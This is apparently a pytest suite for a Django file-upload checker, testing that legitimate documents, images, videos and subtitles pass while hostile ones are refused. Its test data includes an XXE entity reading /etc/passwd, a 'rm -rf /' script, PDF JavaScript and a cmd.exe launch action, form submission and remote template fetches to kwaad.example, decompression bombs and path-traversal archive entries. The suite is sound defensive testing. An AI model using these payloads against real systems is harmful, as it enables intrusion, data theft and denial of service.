"""Right files come in. Of the wrong ones none does, each with a sentence that says why and what to do."""

import io
import struct
import zlib

import pikepdf
import pytest
from django.core.files.base import ContentFile
from PIL import Image

from coalitie.bestandscontrole import Geweigerd, controleer
from coalitie.bestandscontrole.kantoor import KLEIN_UITGEPAKT, MEESTE_DELEN
from coalitie.bestandssoort import Soort
from tests.proefbestanden import (
    EBML_KOP,
    GOED,
    OPEN_XML,
    UITGANG,
    VTT,
    als_bestand,
    beeld,
    doos,
    mp4,
    open_document,
    open_xml,
    pdf,
    webm,
    zip_van,
)

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DTD = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
EXTERN = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'


def verwijzing(soort, doel):
    """The part of an Open XML document that leads out of it."""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="a" Type="{RELS}/{soort}" Target="{doel}" TargetMode="External"/></Relationships>'
    )


def met(sleutel, **velden):
    """Something that puts a dictionary in the root of a PDF."""

    def doe(document):
        document.Root[sleutel] = document.make_indirect(pikepdf.Dictionary(**velden))

    return doe


def met_bijlage(document):
    document.attachments["plan.exe"] = b"MZ"


def diep(document):
    """JavaScript three arrays deep, in an object that is packed with others."""
    handeling = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    document.Root.Extra = document.make_indirect(pikepdf.Array([pikepdf.Array([pikepdf.Array([handeling])])]))


def png_bom(breedte, hoogte):
    """A PNG of a few hundred kilobytes that says, and is, as large as asked."""

    def stuk(naam, inhoud):
        return struct.pack(">I", len(inhoud)) + naam + inhoud + struct.pack(">I", zlib.crc32(naam + inhoud))

    rijen = zlib.compress(b"\x00" * ((breedte // 8 + 1) * hoogte), 9)
    kop = struct.pack(">IIBBBBB", breedte, hoogte, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + stuk(b"IHDR", kop) + stuk(b"IDAT", rijen) + stuk(b"IEND", b"")


def ole():
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600


def versleutelde_zip():
    """A document whose first part says that it needs a password."""
    bytes_ = bytearray(GOED["docx"])
    bytes_[6] |= 1
    midden = bytes_.index(b"PK\x01\x02")
    bytes_[midden + 8] |= 1
    return bytes(bytes_)


def liegende_maat():
    """A document that unpacks to more than it says."""
    bytes_ = bytearray(open_xml("docx", {"word/groot.bin": b"\x00" * 5_000_000}))
    midden = bytes_.index(b"PK\x01\x02", bytes_.index(b"PK\x01\x02", bytes_.index(b"PK\x01\x02") + 1) + 1)
    bytes_[midden + 24 : midden + 28] = (1000).to_bytes(4, "little")
    return bytes(bytes_)


@pytest.mark.parametrize("soort", GOED)
def test_elk_soort_dat_mag_komt_binnen(soort):
    assert controleer(als_bestand(soort), f"naam.{UITGANG[soort]}").soort == soort


@pytest.mark.parametrize("soort", GOED)
def test_na_de_controle_staat_het_bestand_weer_aan_het_begin(soort):
    bestand = als_bestand(soort)

    controleer(bestand, bestand.name)

    assert bestand.read() == GOED[soort]


@pytest.mark.parametrize("soort", GOED)
@pytest.mark.parametrize("ander", GOED)
def test_een_naam_die_iets_anders_zegt_dan_de_inhoud_wordt_geweigerd(soort, ander):
    if soort == ander:
        assert controleer(als_bestand(soort), f"Naam.{UITGANG[ander].upper()}").soort == soort
        return
    with pytest.raises(Geweigerd, match="De naam zegt iets anders dan de inhoud"):
        controleer(als_bestand(soort), f"naam.{UITGANG[ander]}")


# What it is → (name, content, a piece of the sentence)
VIJANDIG = {
    "leeg": ("leeg.pdf", b"", "leeg"),
    "svg": ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "Een SVG kan hier niet"),
    "svg als png": ("logo.png", b'<?xml version="1.0"?>\n<svg onload="alert(1)"/>', "Een SVG kan hier niet"),
    "svg in utf-16": ("logo.svg", "<svg/>".encode("utf-16"), "SVG kan hier niet"),
    "html": ("pagina.pdf", b"<!DOCTYPE html><script>alert(1)</script>", "Een webpagina"),
    "html als beeld": ("beeld.jpg", b"  <html><body>", "Een webpagina"),
    "xml": ("x.docx", EXTERN.encode(), "Een webpagina of XML"),
    "programma": ("plan.pdf", b"MZ\x90\x00" + b"\x00" * 100, "Dit is een programma"),
    "programma voor linux": ("plan.mp4", b"\x7fELF\x02\x01\x01", "Dit is een programma"),
    "script": ("plan.vtt", b"#!/bin/sh\nrm -rf /\n", "Dit is een programma"),
    "gif": ("beeld.png", b"GIF89a" + b"\x00" * 40, "Een GIF kan hier niet"),
    "webp": ("beeld.jpg", b"RIFF\x24\x00\x00\x00WEBPVP8 ", "Een WebP"),
    "heic": ("foto.jpg", doos(b"ftyp", b"heic\x00\x00\x00\x00mif1heic"), "Bewaar een beeld als JPEG"),
    "quicktime": ("film.mp4", mp4(merk=b"qt  "), "een film als MP4"),
    "oud word": ("brief.docx", ole(), "oud bestand van Word of Excel"),
    "rtf": ("brief.docx", rb"{\rtf1 dag}", "Een RTF kan hier niet"),
    "tekst": ("brief.docx", b"Zomaar wat woorden.", "Dit soort bestand kan hier niet"),
    "zip": ("plan.docx", zip_van({"a.txt": "a"}), "Dit is een zipbestand"),
    "jar als docx": (
        "plan.docx",
        zip_van({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe"}),
        "zipbestand",
    ),
    "presentatie": (
        "plan.docx",
        open_xml("docx", inhoudstype=f"{OPEN_XML}presentationml.presentation.main+xml"),
        "zipbestand",
    ),
    "zip zonder hoofddeel": (
        "plan.docx",
        zip_van({"[Content_Types].xml": "<Types/>", "word/document.xml": "<x/>"}),
        "zipbestand",
    ),
    # Macros and other programs
    "docm": (
        "plan.docx",
        open_xml("docx", inhoudstype="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macro",
    ),
    "vba": ("plan.docx", open_xml("docx", {"word/vbaProject.bin": b"\x00"}), "macro"),
    "vba onder andere naam": ("plan.xlsx", open_xml("xlsx", {"xl/VBAPROJECT.BIN": b"\x00"}), "macro"),
    "macroblad": ("plan.xlsx", open_xml("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"}), "macro"),
    "activex": ("plan.docx", open_xml("docx", {"word/activeX/activeX1.bin": b"\x00"}), "macro"),
    "ole": ("plan.docx", open_xml("docx", {"word/embeddings/oleObject1.bin": ole()}), "ander bestand of programma"),
    "programma in docx": (
        "plan.docx",
        open_xml("docx", {"word/media/beeld.png": b"MZ\x90"}),
        "ander bestand of programma",
    ),
    "exe in odt": ("plan.odt", open_document("odt", {"Pictures/a.exe": b"dag"}), "ander bestand of programma"),
    "basic in ods": ("plan.ods", open_document("ods", {"Basic/Standard/Module1.xml": "<x/>"}), "macro"),
    "script in odt": ("plan.odt", open_document("odt", {"Scripts/python/a.txt": "dag"}), "macro"),
    "macro achter een knop": (
        "plan.odt",
        open_document("odt", {"styles.xml": '<x xmlns:l="a" l:href="vnd.sun.star.script:a.b?language=Python"/>'}),
        "macro",
    ),
    # What is fetched on opening
    "sjabloon van buiten": (
        "plan.docx",
        open_xml(
            "docx", {"word/_rels/settings.xml.rels": verwijzing("attachedTemplate", "http://kwaad.example/a.dotm")}
        ),
        "haalt bij het openen iets op",
    ),
    "sjabloon van een server": (
        "plan.docx",
        open_xml("docx", {"word/_rels/settings.xml.rels": verwijzing("attachedTemplate", r"file:///\\kwaad\a.dotm")}),
        "haalt bij het openen iets op",
    ),
    "beeld van buiten": (
        "plan.xlsx",
        open_xml("xlsx", {"xl/_rels/a.rels": verwijzing("image", r"\\kwaad\beeld.png")}),
        "haalt bij het openen iets op",
    ),
    "beeld van buiten in odt": (
        "plan.odt",
        open_document("odt", {"styles.xml": '<d:image xmlns:d="d" xmlns:l="l" l:href="https://kwaad.example/a.png"/>'}),
        "haalt bij het openen iets op",
    ),
    "dtd": ("plan.docx", open_xml("docx", {"word/styles.xml": DTD}), "DTD"),
    "dtd in utf-16": ("plan.docx", open_xml("docx", {"word/styles.xml": DTD.encode("utf-16")}), "DTD"),
    "dtd in verwijzingen": ("plan.xlsx", open_xml("xlsx", {"_rels/.rels": EXTERN}), "DTD"),
    "dtd in odt": ("plan.odt", open_document("odt", {"meta.xml": EXTERN}), "DTD"),
    # Passwords
    "zip met wachtwoord": ("plan.docx", versleutelde_zip(), "wachtwoord"),
    "odt met wachtwoord": (
        "plan.odt",
        open_document("odt", {"META-INF/manifest.xml": '<m:m xmlns:m="m"><m:encryption-data/></m:m>'}),
        "wachtwoord",
    ),
    "pdf met wachtwoord": ("plan.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "wachtwoord"),
    "beveiligde pdf": ("plan.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="")), "beveiligd"),
    # Bombs
    "bom": ("plan.docx", open_xml("docx", {"word/a.xml": b"<a>" + b" " * 40_000_000 + b"</a>"}), "veel te groot"),
    "bom van veel delen": ("plan.docx", open_xml("docx", {f"{n}": "" for n in range(MEESTE_DELEN)}), "veel te groot"),
    "bom die liegt over zijn maat": ("plan.docx", liegende_maat(), "niet heel"),
    "bom in beeld": ("beeld.png", png_bom(40_000, 2_000), "te veel beeldpunten"),
    "bom in beeld, nog groter": ("beeld.png", png_bom(60_000, 6_000), "te veel beeldpunten"),
    # Paths
    "pad omhoog": ("plan.docx", open_xml("docx", {"../../etc/cron.d/a": "dag"}), "niet goed opgebouwd"),
    "pad vanaf de wortel": ("plan.docx", open_xml("docx", {"/etc/passwd": "dag"}), "niet goed opgebouwd"),
    "pad met stationsletter": ("plan.docx", open_xml("docx", {"C:evil": "dag"}), "niet goed opgebouwd"),
    # Half, or two things at once
    "halve docx": ("plan.docx", GOED["docx"][:-30], "niet goed opgebouwd"),
    "kapotte xml": ("plan.docx", open_xml("docx", {"word/styles.xml": "<a><b></a>"}), "niet goed opgebouwd"),
    "docx met iets erachter": ("plan.docx", GOED["docx"] + b"<script>", "niet goed opgebouwd"),
    "docx met iets ervoor": ("plan.docx", b"PK  " + GOED["docx"], "niet goed opgebouwd"),
    "halve pdf": ("plan.pdf", GOED["pdf"][: len(GOED["pdf"]) // 2], "niet heel"),
    "pdf zonder bladzijde": ("plan.pdf", pdf(lambda p: p.pages.__delitem__(0)), "niet heel"),
    "alleen een kop van een pdf": ("plan.pdf", b"%PDF-1.7\n%%EOF", "niet heel"),
    "pdf met iets ervoor": ("plan.pdf", b"GIF89a" + GOED["pdf"], "GIF"),
    "pdf met iets erachter": ("plan.pdf", GOED["pdf"] + b"<script>alert(1)</script>", "niet heel"),
    "pdf zonder wijzer naar zijn inhoud": ("plan.pdf", GOED["pdf"].replace(b"startxref", b"startxxxx"), "niet heel"),
    "pdf en zip": ("plan.pdf", GOED["pdf"] + zip_van({"a": "a"}), "nog een ander bestand verstopt"),
    "beeld en zip": ("beeld.png", GOED["png"] + zip_van({"a.class": "a"}), "nog een ander bestand verstopt"),
    "film en zip": ("film.mp4", GOED["mp4"] + zip_van({"a": "a"}), "nog een ander bestand verstopt"),
    "halve png": ("beeld.png", beeld("PNG", 200, 200)[:200], "niet te lezen"),
    "halve jpeg": ("foto.jpg", beeld("JPEG", 200, 200)[:400], "niet te lezen"),
    "kop van een png": ("beeld.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 40, "niet te lezen"),
    "halve mp4": ("film.mp4", GOED["mp4"][:-10], "niet heel"),
    "mp4 met iets erachter": ("film.mp4", GOED["mp4"] + b"<script>alert(1)</script>", "niet heel"),
    "mp4 zonder beeld": ("film.mp4", doos(b"ftyp", b"isom\x00\x00\x00\x00isom"), "niet heel"),
    "halve webm": ("film.webm", GOED["webm"][:-3], "niet heel"),
    "webm met iets erachter": ("film.webm", GOED["webm"] + b"<html>", "niet heel"),
    "kop van een webm": ("film.webm", EBML_KOP, "niet heel"),
    "matroska": ("film.webm", EBML_KOP.replace(b"webm", b"mkv\x00"), "Dit soort bestand kan hier niet"),
    # PDF that does something
    "pdf met javascript": (
        "plan.pdf",
        pdf(met("/OpenAction", S=pikepdf.Name.JavaScript, JS="app.alert(1)")),
        "programma",
    ),
    "pdf met javascript bij naam": (
        "plan.pdf",
        pdf(met("/Names", JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([])))),
        "programma",
    ),
    "pdf met verstopt javascript": (
        "plan.pdf",
        pdf(diep, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "programma",
    ),
    "pdf die een programma start": (
        "plan.pdf",
        pdf(met("/OpenAction", S=pikepdf.Name.Launch, F="cmd.exe")),
        "programma",
    ),
    "pdf die iets verstuurt": (
        "plan.pdf",
        pdf(met("/AA", S=pikepdf.Name.SubmitForm, F="https://kwaad.example")),
        "formulier",
    ),
    "pdf met xfa": ("plan.pdf", pdf(met("/AcroForm", XFA="<xdp/>")), "programma"),
    "pdf met bijlage": ("plan.pdf", pdf(met_bijlage), "zit een ander bestand"),
    "pdf met lzw": ("plan.pdf", GOED["pdf"].replace(b"/Type", b"/F /LZ#57Decode /Type", 1), "verouderde manier"),
    # Subtitles
    "vtt met html": ("film.vtt", VTT + b"\n00:03.000 --> 00:04.000\n<script>alert(1)</script>\n", "HTML"),
    "vtt met beeld": ("film.vtt", VTT.replace(b"stopt", b'<img src=x onerror="alert(1)">'), "HTML"),
    "vtt met stijl van buiten": (
        "film.vtt",
        VTT.replace(b"\n\n", b"\n\nSTYLE\n::cue{background:url(//x)}\n\n", 1),
        "buiten",
    ),
    "vtt zonder tijden": ("film.vtt", b"WEBVTT\n\nDag\n", "geen ondertiteling"),
    "vtt die anders heet": ("film.vtt", b"WEBVTTX\n\n00:00.000 --> 00:02.000\nDag\n", "geen ondertiteling"),
    "vtt in utf-16": ("film.vtt", b"WEBVTT\n\n" + "Dag\n".encode("utf-16"), "UTF-8"),
}


@pytest.mark.parametrize("wat", VIJANDIG)
def test_wat_niet_mag_komt_niet_binnen(wat):
    naam, inhoud, zin = VIJANDIG[wat]

    with pytest.raises(Geweigerd, match=zin) as weigering:
        controleer(ContentFile(inhoud), naam)

    (gezegd,) = weigering.value.messages
    assert gezegd.endswith(".")


@pytest.mark.parametrize("soort", ["pdf", "docx", "png", "mp4", "vtt"])
def test_een_te_groot_bestand_wordt_geweigerd(soort, settings):
    settings.BESTAND_GROOTSTE_MB = dict.fromkeys(settings.BESTAND_GROOTSTE_MB, 0)

    with pytest.raises(Geweigerd, match="te groot"):
        controleer(als_bestand(soort), f"naam.{UITGANG[soort]}")


def test_een_ingepakt_deel_van_een_pdf_dat_veel_te_groot_wordt_wordt_geweigerd():
    """The dictionaries of this PDF stand in a stream that unpacks to 200 MB."""
    with pytest.raises(Geweigerd, match="niet heel"):
        controleer(ContentFile(pdf_bom(200_000_000)), "plan.pdf")


def pdf_bom(grootte):
    delen = {
        1: b"<</Type/Catalog/Pages 2 0 R/X 5 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    }
    bom = zlib.compress(b"5 0 " + b" " * grootte, 9)
    delen[4] = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(bom), bom)
    uit, plaatsen = b"%PDF-1.7\n", {}
    for nummer, inhoud in delen.items():
        plaatsen[nummer] = len(uit)
        uit += b"%d 0 obj\n%s\nendobj\n" % (nummer, inhoud)
    tabel = b"".join(
        b"\x02" + (4).to_bytes(4, "big") + b"\x00"
        if nummer == 5
        else b"\x01" + plaatsen.get(nummer, len(uit)).to_bytes(4, "big") + b"\x00"
        for nummer in range(1, 7)
    )
    kop = b"<</Type/XRef/Size 7/Index[1 6]/W[1 4 1]/Root 1 0 R/Length %d>>" % len(tabel)
    return uit + b"6 0 obj\n%sstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (kop, tabel, len(uit))


# What may come in though it looks like something else

GEWOON = {
    "link in docx": open_xml("docx", {"word/_rels/document.xml.rels": verwijzing("hyperlink", "https://www.om.nl/")}),
    "sjabloon op eigen schijf": open_xml(
        "docx", {"word/_rels/settings.xml.rels": verwijzing("attachedTemplate", r"file:///C:\Users\jan\huisstijl.dotx")}
    ),
    "grafiek in docx": open_xml("docx", {"word/embeddings/Microsoft_Excel_Sheet.xlsx": GOED["xlsx"]}),
    "veel wit": open_xml("docx", {"word/a.xml": b"<a>" + b" " * (KLEIN_UITGEPAKT - 10_000) + b"</a>"}),
}


@pytest.mark.parametrize("wat", GEWOON)
def test_wat_gewoon_is_in_een_document_mag(wat):
    assert controleer(ContentFile(GEWOON[wat]), "plan.docx").soort == Soort.DOCX


def test_een_leeg_deel_zoals_libreoffice_schrijft_mag():
    delen = {"Configurations2/accelerator/current.xml": "", "Configurations2/menubar/": ""}

    assert controleer(ContentFile(open_document("odt", delen)), "plan.odt").soort == Soort.ODT


def test_een_pdf_met_link_en_bladwijzer_mag():
    def doe(document):
        met("/OpenAction", S=pikepdf.Name.GoTo, D=pikepdf.Array([0]))(document)
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://om.nl")
        )
        document.pages[0].Annots = document.make_indirect(pikepdf.Array([link]))

    assert controleer(ContentFile(pdf(doe)), "plan.pdf").soort == Soort.PDF


def test_een_film_in_stukken_en_een_opname_zonder_eind_mogen():
    in_stukken = doos(b"ftyp", b"iso6\x00\x00\x00\x00dash") + doos(b"moov") + (doos(b"moof") + doos(b"mdat", b"a")) * 3
    zonder_eind = EBML_KOP + bytes.fromhex("18538067") + bytes.fromhex("01ffffffffffffff") + b"\xec\x84stil"

    assert controleer(ContentFile(in_stukken), "film.m4v").soort == Soort.MP4
    assert controleer(ContentFile(zonder_eind), "film.webm").soort == Soort.WEBM
    assert controleer(ContentFile(webm()), "film.webm").soort == Soort.WEBM


def test_ondertiteling_met_stemmen_en_schuine_letters_mag():
    tekst = (
        "\ufeffWEBVTT - De film\r\n\r\nNOTE met de hand gemaakt\r\n\r\n"
        "1\r\n00:00:01.000 --> 00:00:02.500 align:start\r\n"
        "<v Anna>Dag <i>allemaal</i>, 3 < 4 & meer<00:00:02.000><c.geel>.</c>\r\n"
    )

    assert controleer(ContentFile(tekst.encode()), "film.vtt").soort == Soort.VTT


# What a file gives away

KERN = (
    '<c:coreProperties xmlns:c="a" xmlns:dc="b"><dc:creator>Jan Jansen</dc:creator>'
    "<dc:title>Plan</dc:title><c:lastModifiedBy>P. de Vries</c:lastModifiedBy></c:coreProperties>"
)
META = (
    '<o:document-meta xmlns:o="a" xmlns:m="b" xmlns:dc="c"><o:meta><m:initial-creator>Jan  Jansen</m:initial-creator>'
    "<dc:creator>P. de Vries</dc:creator></o:meta></o:document-meta>"
)
AUTEURS = "In dit bestand staat als auteur: Jan Jansen, P. de Vries. Wie het bestand ophaalt, kan dat lezen."


@pytest.mark.parametrize(
    ("naam", "inhoud"),
    [
        ("plan.docx", open_xml("docx", {"docProps/core.xml": KERN})),
        ("plan.xlsx", open_xml("xlsx", {"docProps/core.xml": KERN})),
        ("plan.odt", open_document("odt", {"meta.xml": META})),
        ("plan.pdf", pdf(lambda p: p.docinfo.__setitem__("/Author", "Jan Jansen, P. de Vries"))),
    ],
)
def test_wie_plaatst_hoort_welke_namen_er_in_het_bestand_staan(naam, inhoud):
    assert controleer(ContentFile(inhoud), naam).let_op == (AUTEURS,)


def test_ook_de_naam_in_de_verborgen_gegevens_van_een_pdf_wordt_genoemd():
    def doe(document):
        with document.open_metadata() as gegevens:
            gegevens["dc:creator"] = ["Jan Jansen"]

    assert controleer(ContentFile(pdf(doe)), "plan.pdf").let_op == (AUTEURS.replace(", P. de Vries", ""),)


def test_wie_plaatst_hoort_dat_in_een_film_staat_waar_die_is_opgenomen():
    film = mp4(kop=doos(b"udta", doos(b"\xa9xyz", b"+52.0907+005.1214/")))

    assert controleer(ContentFile(film), "film.mp4").let_op == (
        "In deze film staat waar die is opgenomen. Wie de film ophaalt, kan dat lezen.",
    )


def test_een_bestand_zonder_namen_geeft_niets_om_op_te_letten():
    assert {soort: controleer(als_bestand(soort), f"x.{UITGANG[soort]}").let_op for soort in GOED} == dict.fromkeys(
        GOED, ()
    )


def test_een_beeld_van_het_meeste_aantal_punten_mag(settings):
    settings.BEELD_MEESTE_PIXELS = 40 * 30

    assert controleer(als_bestand("png"), "beeld.png").soort == Soort.PNG
    with pytest.raises(Geweigerd, match="te veel beeldpunten"):
        controleer(ContentFile(beeld("PNG", 40, 31)), "beeld.png")


def test_de_bom_in_beeld_is_echt_een_beeld():
    """Or the test above would hold for any reason."""
    klein = png_bom(800, 20)

    with Image.open(io.BytesIO(klein)) as plaatje:
        plaatje.load()
        assert plaatje.size == (800, 20)
